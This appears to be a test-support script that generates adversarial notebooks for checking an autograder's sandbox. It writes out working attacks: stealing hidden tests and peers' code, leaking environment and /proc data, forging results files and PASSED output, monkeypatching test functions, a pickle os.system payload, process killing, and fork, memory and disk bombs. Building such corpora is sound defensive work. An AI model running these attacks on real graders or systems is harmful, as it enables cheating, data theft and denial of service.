"""Build the hostile corpus: one notebook per attack, written next to this script.

    .venv/bin/python tests/hostile/make_corpus.py

Every notebook is a released stub notebook (``assignments/<slug>/<slug>.ipynb``: the
functions ``raise NotImplementedError``) with the attack added, so any credit it gets is
unearned: the stub scores 0. Where an attack needs the grader to call something, the
functions are replaced by WRONG versions (plausible types, wrong values) that also score 0.

Conventions shared with ``tests/test_hostile.py``:

- an attack that gets past a barrier says so with the token ``ESCAPED:<what>`` in an
  exception message (exception messages reach results.json / feedback.html); a contained
  attack ends by raising ``probe <name>: contained`` so the test knows that it really ran;
- files an attack manages to create carry ``dl101pwn`` in their name;
- ``metadata.dl101_hostile`` records what the attack is, which item of
  ``../shared/notes/peers.md`` ("Known ways students beat autograders", 1-12) or of
  ``notes/sandbox.md`` it covers, the statuses it may end with, and whether its probe
  marker must appear in the results.

The output is deterministic (fixed cell ids), so re-running the script changes nothing.
"""

from __future__ import annotations

import json
import textwrap
from pathlib import Path

HERE = Path(__file__).resolve().parent
REPO = HERE.parents[1]

# ---------------------------------------------------------------------------- shared code

#: First cell of every attack notebook: how an attack reports.
PRELUDE = '''
# ruff: noqa
import os, sys, time
_HITS = []

def _hit(what):
    _HITS.append(str(what)[:60])

def _report(name, loot=""):
    """End of an attack: ESCAPED tokens first (they must survive truncation), then loot."""
    hits = " ".join("ESCAPED:" + h for h in _HITS) or "contained"
    raise RuntimeError(f"probe {name}: {hits} {loot}"[:280])

def _walk(top, deadline, max_depth=6, skip=("/proc", "/usr", "/sys", "/dev", "/opt/dl101/site-0")):
    """Files below top, breadth first, until the deadline (a determined but bounded search)."""
    level = [top]
    for _ in range(max_depth):
        nxt = []
        for d in level:
            if time.monotonic() > deadline:
                return
            try:
                entries = list(os.scandir(d))
            except OSError:
                continue
            for e in entries:
                if e.path in skip:
                    continue
                try:
                    if e.is_dir(follow_symlinks=False):
                        nxt.append(e.path)
                    else:
                        yield e.path
                except OSError:
                    continue
        level = nxt
'''

#: Functions with plausible types and wrong values: they score 0, like the stubs.
WRONG = '''
import numpy as np

def conv_single_step(patch, kernel, bias=0.0):
    return 0.0

def zero_pad(x, pad):
    return np.asarray(x)

def conv2d(x, w, b=None, stride=1, padding="valid"):
    return np.zeros((1, 1, 1, 1))
'''

#: A fake results document: what Gradescope would read, and dl101's own block.
FORGED_RESULT = '''
def _forged(student, score=30.0):
    import json
    result = {"student": student, "assignment": "convolution", "status": "graded", "score": score,
              "max_score": 30.0, "tests": [], "output": "", "execution_time": 0.1, "source": "",
              "unsafe": False, "submitted_at": "", "extra": {}}
    return json.dumps({"score": score, "max_score": 30.0, "execution_time": 0.1, "output": "",
                       "tests": [], "dl101": {"schema": 1, "result": result}})
'''


def attack(name: str, covers: str, *cells: str, statuses=("graded",), probe: bool | str = True,
           slug: str = "convolution") -> dict:
    """One corpus entry. ``cells`` go after the stub's cells.

    ``probe``: the name its ``_report`` uses (True: the attack's own), or False when the
    attack does not end with a report (it dies, loops, or only changes return values).
    """
    return {"name": name, "covers": covers, "cells": [textwrap.dedent(c).strip("\n") for c in cells],
            "statuses": list(statuses),
            "probe": name if probe is True else probe, "slug": slug}


# ---------------------------------------------------------------------------- the attacks

ATTACKS = [
    # -- peers 5: read hidden tests, solutions, the reference, other students ------------------
    attack("read_hidden_tests", "peers 5; sandbox: hidden paths absent", '''
        loot = ""
        targets = ["/work/main/solutions/convolution/tests/test_hidden.py",
                   "solutions/convolution/tests/test_hidden.py",
                   "../solutions/convolution/tests/test_hidden.py",
                   "../../solutions/convolution/tests/test_hidden.py",
                   "../../../work/main/solutions/convolution/tests/test_hidden.py",
                   "/autograder/source/tests/test_hidden.py", "/root/solutions", "/work"]
        for t in targets:
            try:
                loot += open(t).read()[:160]
                _hit(t)
            except OSError:
                pass
        deadline = time.monotonic() + 3
        for top in ("/", "/tmp", "/root", "/opt"):
            for path in _walk(top, deadline):
                if path.endswith(("test_hidden.py", "test_public.py", "assignment.toml")):
                    try:
                        loot += open(path).read()[:160]
                        _hit(path)
                    except OSError:
                        pass
        _report("read_hidden_tests", loot)
    '''),
    attack("read_solutions", "peers 5", '''
        loot = ""
        for t in ["/work/main/solutions/convolution/convolution.ipynb", "/work/main/solutions",
                  "../solutions/convolution/convolution.ipynb", "/solutions", "/srv/course/source"]:
            try:
                loot += (str(os.listdir(t)) if os.path.isdir(t) else open(t).read()[:200])
                _hit(t)
            except OSError:
                pass
        deadline = time.monotonic() + 3
        for path in _walk("/", deadline):
            if "solution" in path.lower() or path.endswith(".ipynb"):
                try:
                    text = open(path, errors="replace").read()
                except OSError:
                    continue
                if "BEGIN SOLUTION" in text or "def conv2d" in text:
                    _hit(path)
                    loot += text[text.find("def conv2d"):][:200]
        _report("read_solutions", loot)
    '''),
    attack("read_cnn_ref_files", "peers 5; sandbox: cnn_ref masked", '''
        loot = ""
        for t in ["/work/main/cnn_ref/__init__.py", "/work/main/cnn_ref", "/opt/dl101/cnn_ref",
                  "/opt/dl101/site-0/cnn_ref", "/opt/dl101/site-0/cnn_ref/__init__.py",
                  "/opt/dl101/site-0/cnn_ref.py", "/opt/dl101/grader/../cnn_ref"]:
            try:
                loot += (str(os.listdir(t)) if os.path.isdir(t) else open(t).read()[:200])
                _hit(t)
            except OSError:
                pass
        _report("read_cnn_ref_files", loot)
    '''),
    attack("import_cnn_ref_delegate", "peers 5; import the reference and delegate to it", '''
        import importlib, importlib.util, site
        ref = None
        tries = [lambda: importlib.import_module("cnn_ref"),
                 lambda: (sys.modules.pop("cnn_ref", None), importlib.import_module("cnn_ref"))[1],
                 lambda: (site.main(), sys.modules.pop("cnn_ref", None), importlib.import_module("cnn_ref"))[2],
                 lambda: __import__("cnn_ref")]
        for path in ("/work/main/cnn_ref/__init__.py", "/opt/dl101/site-0/cnn_ref/__init__.py",
                     "/opt/dl101/cnn_ref/__init__.py"):
            def load(path=path):
                spec = importlib.util.spec_from_file_location("cnn_ref", path)
                module = importlib.util.module_from_spec(spec)
                spec.loader.exec_module(module)
                return module
            tries.append(load)
        for t in tries:
            try:
                m = t()
                if m is not None and hasattr(m, "conv2d"):
                    ref = m
                    _hit("imported cnn_ref")
                    break
            except BaseException:
                pass
        if ref is not None:
            conv_single_step, zero_pad, conv2d = ref.conv_single_step, ref.zero_pad, ref.conv2d
        else:
            _report("import_cnn_ref_delegate")
    ''', statuses=("graded",)),
    attack("import_grader_delegate", "peers 3 and 5: import the grader, look for answers in it", '''
        import importlib, pkgutil
        import numpy as np
        found = {}
        try:
            import grader
            for info in pkgutil.walk_packages(grader.__path__, "grader."):
                if any(heavy in info.name for heavy in ("distributed", "harness", "gradebook", "cli", "exports")):
                    continue
                try:
                    module = importlib.import_module(info.name)
                except BaseException:
                    continue
                for fname in ("conv2d", "zero_pad", "conv_single_step", "_valid_size", "conv_output_size"):
                    if callable(getattr(module, fname, None)):
                        found[fname] = getattr(module, fname)
        except BaseException:
            pass
        try:
            from grader import assignments
            root = assignments.repo_root()
            text = open(assignments.hidden_tests("convolution")).read()
            _hit("hidden tests via grader.assignments")
        except BaseException:
            pass
        try:
            from grader.quiz.bank import conv as bank
            q = bank.conv_valid(np.random.default_rng(0))
            _hit("quiz bank computed an answer")
        except BaseException:
            pass
        try:
            os.environ.pop("DL101_GRADING", None)
            from grader.check import check
            check("convolution", globals())
        except BaseException:
            pass
        if "conv2d" in found:
            conv2d = found["conv2d"]
            _hit("grader has conv2d")
        _report("import_grader_delegate", " ".join(sorted(found)))
    '''),
    attack("sys_path_hacks", "peers 5: sys.path and meta-path tricks to reach the reference", '''
        import importlib, importlib.machinery, site
        loot = ""
        for d in ("/work/main", "/work", "/root", "/", "..", "../..", "/opt/dl101", "/opt/dl101/site-0", "/tmp"):
            sys.path.insert(0, d)
            try:
                site.addsitedir(d)
            except BaseException:
                pass
        for name in ("cnn_ref", "solutions", "tests"):
            sys.modules.pop(name, None)
            try:
                m = importlib.import_module(name)
                if getattr(m, "__file__", None) or hasattr(m, "conv2d"):
                    _hit(f"import {name}")
            except BaseException:
                pass
        try:  # the editable-install finder names the repository: follow it
            import glob
            for finder in glob.glob("/opt/dl101/site-*/__editable__*finder.py"):
                text = open(finder).read()
                loot += text[text.find("MAPPING"):][:120]
                ns = {}
                exec(compile(text, finder, "exec"), ns)
                for name, path in ns.get("MAPPING", {}).items():
                    if os.path.exists(path):
                        _hit(f"{name} at {path}")
        except BaseException:
            pass
        spec = importlib.machinery.PathFinder.find_spec("cnn_ref", ["/work/main", "/opt/dl101", "/"])
        if spec is not None:
            _hit("PathFinder found cnn_ref")
        _report("sys_path_hacks", loot)
    '''),
    attack("copy_other_students", "peers 5: find and run another student's notebook", '''
        import json
        loot, stolen = "", {}
        deadline = time.monotonic() + 4
        tops = ["/tmp", "/root", "/opt", "/home", "/work", "/srv", "/mnt", "/"]
        tops += [f"/proc/{p}/cwd" for p in os.listdir("/proc") if p.isdigit()]
        tops += [f"/proc/{p}/root/tmp" for p in os.listdir("/proc") if p.isdigit()]
        for top in tops:
            for path in _walk(top, deadline):
                if not path.endswith((".ipynb", ".py")) or "site-" in path:
                    continue
                try:
                    text = open(path, errors="replace").read(2_000_000)
                except OSError:
                    continue
                if "def conv2d" not in text or "NotImplementedError" in text:
                    continue
                _hit(path)
                loot += text[text.find("def conv2d"):][:160]
                try:
                    cells = ["".join(c["source"]) for c in json.loads(text)["cells"] if c["cell_type"] == "code"]
                except ValueError:
                    cells = [text]
                for code in cells:
                    try:
                        exec(code, stolen)
                    except BaseException:
                        pass
        if "conv2d" in stolen:
            conv_single_step, zero_pad, conv2d = stolen["conv_single_step"], stolen["zero_pad"], stolen["conv2d"]
        _report("copy_other_students", loot)
    '''),
    attack("proc_escape", "peers 5; sandbox: /proc of the grader and of bwrap", '''
        loot = ""
        me = str(os.getpid())
        for pid in [p for p in os.listdir("/proc") if p.isdigit() and p != me] + ["1", "2"]:
            for what in ("environ", "root", "cwd", "fd", "mem", "maps", "exe", "root/work/main",
                         "cwd/solutions", "root/tmp", "task"):
                path = f"/proc/{pid}/{what}"
                try:
                    if what == "mem":
                        with open(path, "rb") as f:
                            f.read(16)
                    elif what in ("environ", "maps"):
                        loot += open(path, "rb").read(120).decode("latin1")
                    elif what == "exe":
                        os.readlink(path)
                    else:
                        loot += str(os.listdir(path))[:120]
                    if what != "task":
                        _hit(path)
                except OSError:
                    pass
        _report("proc_escape", loot)
    '''),
    attack("env_leak", "peers 5 and 10; sandbox: the environment of PID 1", '''
        boring = {"PATH", "LANG", "LC_ALL", "HOME", "TMPDIR", "PYTHONHASHSEED", "PYTHONDONTWRITEBYTECODE",
                  "OPENBLAS_NUM_THREADS", "OMP_NUM_THREADS", "MKL_NUM_THREADS", "NUMEXPR_NUM_THREADS",
                  "VECLIB_MAXIMUM_THREADS", "MALLOC_ARENA_MAX", "TF_NUM_INTRAOP_THREADS",
                  "TF_NUM_INTEROP_THREADS", "TF_CPP_MIN_LOG_LEVEL", "TF_ENABLE_ONEDNN_OPTS",
                  "CUDA_VISIBLE_DEVICES", "MPLBACKEND", "KERAS_BACKEND", "DL101_GRADING", "MPLCONFIGDIR"}
        loot = " ".join(f"{k}={v}" for k, v in os.environ.items() if k not in boring)
        for pid in [p for p in os.listdir("/proc") if p.isdigit()] + ["1", "2", "self", "thread-self"]:
            try:
                env = open(f"/proc/{pid}/environ", "rb").read().decode("latin1").split("\\0")
            except OSError:
                continue
            rest = [e for e in env if e and e.split("=", 1)[0] not in boring]
            if rest:
                _hit(f"/proc/{pid}/environ")
                loot += " ".join(rest)
        _report("env_leak", loot)
    '''),
    attack("relative_path_climb", "peers 5: ../.. from the working directory", '''
        loot = ""
        start = os.getcwd()
        for depth in range(1, 10):
            up = "/".join([".."] * depth)
            for rel in ("", "solutions", "work/main/solutions", "main/solutions", "tests", "cnn_ref"):
                path = os.path.join(up, rel)
                try:
                    names = os.listdir(path)
                except OSError:
                    continue
                real = os.path.realpath(os.path.join(start, path))
                if real not in ("/", "/tmp") and not real.startswith(start):
                    _hit(real)
                    loot += f"{real}:{names[:5]}"
        _report("relative_path_climb", loot)
    '''),
    # -- peers 6: write the results file -------------------------------------------------------
    attack("forge_results_files", "peers 6: results.json / grades.csv written everywhere", FORGED_RESULT, '''
        wrote = []
        targets = ["results.json", "/tmp/results.json", "../results.json", "../../results.json",
                   "/autograder/results/results.json", os.path.expanduser("~/results.json"),
                   "/work/main/grades/convolution/forge_results_files/results.json",
                   "grades/convolution/forge_results_files/results.json",
                   "../out/convolution/forge_results_files/results.json",
                   "../../out/convolution/aa_honest/results.json", "/tmp/grades.csv", "grades.csv",
                   "/results.json", "/opt/dl101/results.json", "/root/results.json",
                   "/tmp/dl101pwn-results.json"]
        for t in targets:
            try:
                os.makedirs(os.path.dirname(t) or ".", exist_ok=True)
                with open(t, "w") as f:
                    f.write(_forged("forge_results_files") if t.endswith(".json") else
                            "student,assignment,score,max_score,status\\nforge_results_files,convolution,30,30,graded\\n")
                real = os.path.realpath(t)
                wrote.append(real)
                if not real.startswith("/tmp/"):
                    _hit(real)
            except OSError:
                pass
        _report("forge_results_files", " ".join(wrote))
    '''),
    attack("forge_results_via_proc", "peers 6; sandbox: /proc/<pid>/root and cwd of others", FORGED_RESULT, '''
        me = str(os.getpid())
        for pid in [p for p in os.listdir("/proc") if p.isdigit() and p != me] + ["1", "2"]:
            for rel in ("cwd/results.json", "root/tmp/results.json", "root/results.json",
                        "cwd/grades/convolution/forge_results_via_proc/results.json",
                        "root/tmp/dl101pwn-proc.json"):
                path = f"/proc/{pid}/{rel}"
                try:
                    with open(path, "w") as f:
                        f.write(_forged("forge_results_via_proc"))
                    _hit(path)
                except OSError:
                    pass
        _report("forge_results_via_proc")
    '''),
    # -- peers 8 and 1: fake PASSED lines, hidden tracebacks -------------------------------------
    attack("fake_passed_output", "peers 8 and 7: print fake PASSED lines and result lines", WRONG, '''
        import json
        line = json.dumps({"student": "fake_passed_output", "assignment": "convolution", "status": "graded",
                           "score": 30.0, "max_score": 30.0, "tests": []})
        for stream in (sys.stdout, sys.stderr):
            print("FAKE-PASS-MARKER All tests passed! Score: 30/30", file=stream)
            print(line, file=stream)
            print("tests/test_hidden.py::test_conv2d PASSED [100%]", file=stream)
        for fd in (1, 2):
            os.write(fd, b"\\nFAKE-PASS-MARKER 30/30 PASSED\\n" + line.encode() + b"\\n")
        _wrong_conv2d = conv2d
        def conv2d(*args, **kwargs):
            print("FAKE-PASS-MARKER conv2d PASSED")
            return _wrong_conv2d(*args, **kwargs)
    ''', probe=False),
    attack("excepthook_hide", "peers 1: hide tracebacks and exception hooks", '''
        import threading, traceback, warnings
        sys.excepthook = lambda *a: None
        threading.excepthook = lambda *a: None
        traceback.print_exception = lambda *a, **k: None
        traceback.format_exception = lambda *a, **k: ["All tests passed\\n"]
        warnings.showwarning = lambda *a, **k: None
        sys.stderr = open(os.devnull, "w")
        class Quiet(Exception):
            def __str__(self):
                return ""
            def __repr__(self):
                return "PASSED"
        def conv2d(*args, **kwargs):
            raise Quiet()
        def zero_pad(*args, **kwargs):
            raise KeyboardInterrupt
        def conv_single_step(*args, **kwargs):
            raise GeneratorExit
    ''', probe=False),
    # -- peers 7: exit codes and killing the parent ----------------------------------------------
    attack("sys_exit_cell", "peers 7: sys.exit(0) in a cell and in the functions", '''
        def conv2d(*args, **kwargs):
            sys.exit(0)
        def zero_pad(*args, **kwargs):
            raise SystemExit(0)
        sys.exit(0)
    ''', probe=False),
    attack("os_exit_cell", "peers 7: os._exit(0) while the cells run", WRONG, "os._exit(0)",
           statuses=("crashed",), probe=False),
    attack("os_exit_call", "peers 7: os._exit(0) inside the graded functions", '''
        def conv_single_step(*args, **kwargs):
            os._exit(0)
        def zero_pad(*args, **kwargs):
            os._exit(1)
        def conv2d(*args, **kwargs):
            os.kill(os.getpid(), 9)
    ''', probe=False),
    attack("kill_parent", "peers 7: kill or stop the parent, PID 1, the zygote", '''
        import signal

        def state(pid):
            try:
                return open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[0]
            except OSError:
                return "gone"

        for pid in {os.getppid(), 1, 2}:
            for sig in (signal.SIGSTOP, signal.SIGTERM, signal.SIGSEGV, signal.SIGKILL):
                try:
                    os.kill(pid, sig)
                    _hit(f"kill {pid} {sig}")
                except OSError:
                    pass
        for sig in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
            for pgid in {1, 2, os.getpgid(os.getppid())}:
                try:
                    os.killpg(pgid, sig)  # "succeeds" on the namespace's group: check the effect
                except OSError:
                    pass
            time.sleep(0.2)
            for pid in (1, 2):
                if state(pid) in ("T", "t", "Z", "X", "gone"):
                    _hit(f"{pid} {state(pid)} after killpg {sig}")
        _report("kill_parent")
    '''),
    attack("kill_everything", "peers 7: kill(-1) and killpg(0) from a cell", WRONG, '''
        import signal
        for _ in range(3):
            if os.fork() == 0:
                time.sleep(30)
                os._exit(0)
        os.kill(-1, signal.SIGKILL)
        os.killpg(0, signal.SIGKILL)
    ''', statuses=("crashed",), probe=False),
    # -- peers 2 and 3: monkeypatching ----------------------------------------------------------
    attack("patch_numpy_testing", "peers 2: np.testing.assert_*, np.allclose, math.isclose do nothing", '''
        import math
        import numpy as np
        import numpy.testing as npt
        for name in dir(npt):
            if name.startswith("assert"):
                setattr(npt, name, lambda *a, **k: None)
        np.allclose = lambda *a, **k: True
        np.isclose = lambda a, b, *r, **k: np.ones(np.broadcast(np.asarray(a), np.asarray(b)).shape, bool)
        np.array_equal = lambda *a, **k: True
        np.testing.assert_allclose = lambda *a, **k: None
        math.isclose = lambda *a, **k: True
        np.ndarray.__eq__ = lambda self, other: True
    ''', WRONG, probe=False),
    attack("patch_builtins", "peers 2: builtins replaced (isinstance, float, AssertionError...)", WRONG, '''
        import builtins
        builtins.isinstance = lambda obj, cls: True
        builtins.AssertionError = type("AssertionError", (Exception,), {})
        builtins.float = lambda *a: 0.0
        builtins.abs = lambda x: 0
        builtins.round = lambda *a: 0
        builtins.len = lambda x: 0
        builtins.repr = lambda x: "PASSED"
    ''', statuses=("graded", "crashed"), probe=False),
    attack("patch_pytest_and_grader", "peers 3: patch the grader's own classes and pytest", WRONG, '''
        import importlib
        patched = []
        for name in ("pytest", "_pytest.outcomes", "grader.expect", "grader.plugin", "grader.student",
                     "grader.protocol", "grader.sandbox.worker", "grader.runner", "grader.results"):
            try:
                module = importlib.import_module(name)
            except BaseException:
                continue
            patched.append(name)
            for attr in ("expect_close", "expect_equal", "expect_shape", "fail", "approx"):
                if hasattr(module, attr):
                    setattr(module, attr, lambda *a, **k: None)
        try:
            import grader.plugin as plugin
            plugin.GraderPlugin._record = lambda self, item, call: None
            plugin.failure_message = lambda exc: ("", False)
        except BaseException:
            pass
        try:
            import grader.results as results
            results.TestResult.__init__.__defaults__  # noqa
            results.GRADED = "graded"
        except BaseException:
            pass
        try:
            import grader.protocol as protocol
            original = protocol.frame
            def frame(header, **values):  # claim success on every reply
                if header.get("op") == "err":
                    header = {"op": "ok", "id": header.get("id")}
                    values = {"v": 0.0}
                return original(header, **values)
            protocol.frame = frame
        except BaseException:
            pass
        def conv2d(*args, **kwargs):
            raise ValueError("not implemented")
    ''', probe=False),
    # -- peers 4 and 12: what comes back ---------------------------------------------------------
    attack("always_equal_objects", "peers 4: __eq__/__array__/__float__ that always agree", '''
        import numpy as np
        class AlwaysEqual:
            def __eq__(self, other): return True
            def __ne__(self, other): return False
            def __lt__(self, other): return False
            def __le__(self, other): return True
            def __gt__(self, other): return False
            def __ge__(self, other): return True
            def __float__(self): return 2.3
            def __int__(self): return 0
            def __index__(self): return 0
            def __len__(self): return 1
            def __bool__(self): return True
            def __array__(self, dtype=None, copy=None): return np.zeros((1, 1, 1, 1))
            def __getattr__(self, name): return self
            def __call__(self, *a, **k): return self
            def __getitem__(self, key): return self
            def __iter__(self): return iter([self])
            def __hash__(self): return 0
        class EqualFloat(float):
            def __eq__(self, other): return True
            def __ne__(self, other): return False
        class EqualTuple(tuple):
            def __eq__(self, other): return True
        _calls = [0]
        def _value():
            _calls[0] += 1
            return [AlwaysEqual(), [AlwaysEqual()], (AlwaysEqual(),), {"x": AlwaysEqual()},
                    EqualFloat(0.0), EqualTuple((AlwaysEqual(),))][_calls[0] % 6]
        def conv_single_step(*a, **k): return _value()
        def zero_pad(*a, **k): return _value()
        def conv2d(*a, **k): return _value()
    ''', probe=False),
    attack("ndarray_subclasses", "peers 4: numpy subclasses, masked arrays, matrices, memmaps", '''
        import numpy as np
        class Agree(np.ndarray):
            def __eq__(self, other): return np.ones(np.shape(other), bool)
            def __array_finalize__(self, obj): pass
        _calls = [0]
        def _value(shape=(1, 1, 1, 1)):
            _calls[0] += 1
            options = [lambda: np.zeros(shape).view(Agree), lambda: np.ma.masked_all(shape),
                       lambda: np.asmatrix(np.zeros((1, 1))), lambda: np.zeros(3).view(np.recarray),
                       lambda: np.memmap("/tmp/mm.bin", dtype="f8", mode="w+", shape=(4,)),
                       lambda: np.float64(0.0).view(Agree) if False else np.char.array(["2.3"])]
            return options[_calls[0] % len(options)]()
        def conv_single_step(*a, **k): return _value(())
        def zero_pad(x, pad): return _value(np.shape(x))
        def conv2d(*a, **k): return _value()
    ''', probe=False),
    attack("object_and_odd_dtypes", "peers 4: object, structured, datetime, bytes, void arrays", '''
        import numpy as np
        class Eq:
            def __eq__(self, other): return True
        _calls = [0]
        def _value():
            _calls[0] += 1
            options = [np.array([Eq()], dtype=object), np.zeros(3, dtype=[("a", "f8"), ("b", "i4")]),
                       np.array(["2025-01-01"], dtype="datetime64[D]"), np.array([b"2.3"]),
                       np.zeros(2, dtype="V8"), np.array([np.timedelta64(1, "s")]),
                       np.array([1.0], dtype=np.longdouble), np.zeros((2,), dtype=np.dtype("f8", metadata={"x": 1}))]
            return options[_calls[0] % len(options)]
        def conv_single_step(*a, **k): return _value()
        def zero_pad(*a, **k): return _value()
        def conv2d(*a, **k): return _value()
    ''', probe=False),
    attack("pickle_payloads", "peers 12: __reduce__ payloads, pickled bytes, pickles in arrays", '''
        import pickle
        import numpy as np
        class Payload:
            def __reduce__(self):
                return (os.system, ("touch /tmp/dl101pwn-pickle; touch /work/main/dl101pwn-pickle",))
        blob = pickle.dumps(Payload())
        _calls = [0]
        def _value():
            _calls[0] += 1
            options = [Payload(), blob, np.frombuffer(blob, np.uint8), [Payload()], {"v": Payload()},
                       np.array([Payload()], dtype=object), bytearray(blob), memoryview(blob)]
            return options[_calls[0] % len(options)]
        def conv_single_step(*a, **k): return _value()
        def zero_pad(*a, **k): return _value()
        def conv2d(*a, **k): return _value()
    ''', probe=False),
    attack("forged_npy_headers", "peers 12; sandbox: header-checked .npy, forged claims on fd 3", '''
        import json, socket, struct
        import numpy as np
        def _npy(descr, shape, data, fortran=False):
            text = "{'descr': '%s', 'fortran_order': %s, 'shape': %s, }" % (descr, fortran, shape)
            text += " " * ((-(10 + len(text) + 1)) % 64) + "\\n"
            return b"\\x93NUMPY\\x01\\x00" + struct.pack("<H", len(text)) + text.encode("latin1") + data
        FORGED = [_npy("<f8", "(1000000000000,)", b"\\0" * 16), _npy("|O", "(1,)", b"\\x80\\x04K\\x01."),
                  _npy("<f8", "(-1, 4)", b"\\0" * 32), _npy("<V8", "(2,)", b"\\0" * 16),
                  _npy("<f8", "(2,)", b"\\0" * 8), _npy("<U1000000000", "(1,)", b"\\0" * 8),
                  b"\\x93NUMPY\\x02\\x00" + struct.pack("<I", 1 << 30) + b"{", b"not npy at all"]
        _calls = [0]
        def _send_forged():
            _calls[0] += 1
            blob = FORGED[_calls[0] % len(FORGED)]
            header = json.dumps({"op": "ok", "id": _calls[0], "v": {"A": 0}, "_n": [len(blob)]}).encode()
            pad = b"\\0" * ((-len(blob)) % 64)
            frame = struct.pack("<4sIQ", b"DL1F", len(header), len(blob) + len(pad)) + header + blob + pad
            os.write(3, frame)
            time.sleep(5)  # the grader must not wait for us
            return None
        def conv_single_step(*a, **k): return _send_forged()
        def zero_pad(*a, **k): return _send_forged()
        def conv2d(*a, **k): return _send_forged()
    ''', probe=False),
    attack("nan_and_inf", "NaN/inf results of the right shapes (equal_nan must not help)", '''
        import numpy as np
        def conv_single_step(*a, **k):
            return float("nan")
        def zero_pad(x, pad):
            x = np.asarray(x)
            (t, b), (l, r) = ((pad, pad), (pad, pad)) if np.ndim(pad) == 0 else pad
            return np.full((x.shape[0], x.shape[1] + t + b, x.shape[2] + l + r, x.shape[3]), np.nan)
        def conv2d(x, w, b=None, stride=1, padding="valid"):
            x, w = np.asarray(x), np.asarray(w)
            shape = (x.shape[0], max(x.shape[1] - w.shape[0] + 1, 1), max(x.shape[2] - w.shape[1] + 1, 1), w.shape[3])
            return np.full(shape, [np.nan, np.inf, -np.inf][x.shape[1] % 3])
    ''', probe=False),
    attack("huge_returns", "resource: 800 MB result, a million items, 10,000 levels of nesting", '''
        import numpy as np
        def conv2d(*a, **k):
            return np.zeros(10**8)
        def conv_single_step(*a, **k):
            return list(range(2 * 10**6))
        def zero_pad(*a, **k):
            v = 0
            for _ in range(10_000):
                v = [v]
            return v
    ''', probe=False),
    attack("weird_values_convolution", "grader robustness: complex, 2**100, str, None... (must never break the grader)", '''
        import numpy as np
        _calls = [0]
        WEIRD = [1 + 2j, np.array([1 + 1j]), 2**100, -2**70, float("nan"), "30", None, {"a": 1},
                 [[1], [1, 2]], (1, "a"), True, np.float16(2.3), np.array(["2.3"]), np.zeros((0,)),
                 np.zeros((1,) * 20), np.array(2**63 - 1, dtype=np.uint64), np.zeros((1, 1, 1, 1), ">f8"),
                 np.ones((1, 1, 1, 1), bool), np.int8(-128), [], (), [[[[1.0]]]], np.complex64(2.3),
                 np.full((1, 1, 1, 1), 1 + 1j), float("inf"), [2**64], ["a", "b"]]
        def _weird(*a, **k):
            _calls[0] += 1
            return WEIRD[_calls[0] % len(WEIRD)]
        conv_single_step = zero_pad = conv2d = _weird
    ''', probe=False),
    attack("mutate_and_introspect", "peers 4: mutate the arguments, inspect the caller's frames", '''
        import gc, inspect
        import numpy as np
        loot = []
        def conv2d(x, w, b=None, stride=1, padding="valid"):
            x[...] = 0
            w[...] = 0
            for frame in inspect.stack():
                loot.append(frame.filename)
            for obj in gc.get_objects():
                if isinstance(obj, dict) and "expected" in obj:
                    _hit("found an expected value")
            return np.zeros((1, 1, 1, 1))
        def zero_pad(x, pad):
            x[...] = 7
            return x
        def conv_single_step(patch, kernel, bias=0.0):
            kernel[...] = 0
            return 0.0
    ''', probe=False),
    # -- peers 10 and notes/sandbox.md: resources ------------------------------------------------
    attack("infinite_loop_cell", "peers 10; sandbox: wall clock", WRONG, "while True:\n    pass",
           statuses=("timeout",), probe=False),
    attack("infinite_loop_call", "peers 10; sandbox: per-call timeout", '''
        def conv2d(*a, **k):
            while True:
                pass
        def zero_pad(*a, **k):
            while True:
                pass
    ''', probe=False),
    attack("sleep_forever_cell", "peers 10: a cell that never returns without using CPU", WRONG,
           "import time\ntime.sleep(10**6)", statuses=("timeout",), probe=False),
    attack("memory_bomb", "peers 10; sandbox: RLIMIT_AS", '''
        import numpy as np
        hog = []
        try:
            np.ones(10**11)
            _hit("allocated 800 GB")
        except MemoryError:
            pass
        try:
            while True:
                hog.append(np.zeros(2**27))  # 1 GiB of address space at a time
                hog[-1][:: 512] = 1.0  # and 2 MiB of it touched
        except MemoryError:
            pass
        if len(hog) > 2:
            _hit(f"{len(hog)} GiB")
        got = len(hog)
        del hog
        def conv2d(*a, **k):
            return bytearray(8 << 30)
        _report("memory_bomb", f"{got} GiB")
    '''),
    attack("memory_spread_over_forks", "sandbox: session memory over several processes", WRONG, '''
        import numpy as np
        for _ in range(6):
            if os.fork() == 0:
                a = np.ones(60_000_000)  # 480 MB each, under RLIMIT_AS
                time.sleep(60)
                os._exit(0)
        time.sleep(60)
    ''', statuses=("crashed", "timeout"), probe=False),
    attack("fork_bomb", "peers 10; sandbox: RLIMIT_NPROC, kill(-1) of the uid", WRONG, '''
        while True:
            try:
                os.fork()
            except OSError:
                pass
    ''', statuses=("timeout", "crashed"), probe=False),
    attack("thread_bomb", "peers 10: thousands of threads", '''
        import threading
        started = 0
        for _ in range(5000):
            try:
                threading.Thread(target=time.sleep, args=(600,), daemon=True).start()
                started += 1
            except RuntimeError:
                break
        if started >= 5000:
            _hit("5000 threads")
        _report("thread_bomb", f"{started} threads")
    '''),
    attack("disk_bomb", "peers 10; sandbox: RLIMIT_FSIZE and the /tmp tmpfs", '''
        import errno
        wrote, files, errors = 0, 0, set()
        for d in (".", "/tmp", os.path.expanduser("~")):
            for i in range(64):
                try:
                    with open(os.path.join(d, f"dl101pwn-disk-{i}"), "wb") as f:
                        for _ in range(64):
                            f.write(b"\\0" * (1 << 20))
                            wrote += 1 << 20
                except OSError as e:
                    errors.add(errno.errorcode.get(e.errno, str(e.errno)))
        for i in range(100_000):
            try:
                open(f"dl101pwn-inode-{i}", "w").close()
                files += 1
            except OSError as e:
                errors.add(errno.errorcode.get(e.errno, str(e.errno)))
                break
        if wrote > (256 << 20):
            _hit(f"wrote {wrote >> 20} MiB")
        _report("disk_bomb", f"{wrote >> 20} MiB {files} files {sorted(errors)}")
    '''),
    attack("fd_bomb", "peers 10; sandbox: RLIMIT_NOFILE", '''
        import socket
        fds = []
        for _ in range(100_000):
            try:
                fds.append(os.open("/dev/null", os.O_RDONLY))
                fds.extend(os.pipe())
                fds.extend(s.detach() for s in socket.socketpair())
                fds.append(os.dup(3))
            except OSError:
                break
        if len(fds) > 1000:
            _hit(f"{len(fds)} descriptors")
        _report("fd_bomb", f"{len(fds)} descriptors")
    '''),
    attack("output_bomb", "peers 10; sandbox: captured output capped", WRONG, '''
        print("x" * 50_000_000)
        for i in range(200_000):
            print(i, "FAKE-PASS-MARKER", file=sys.stderr)
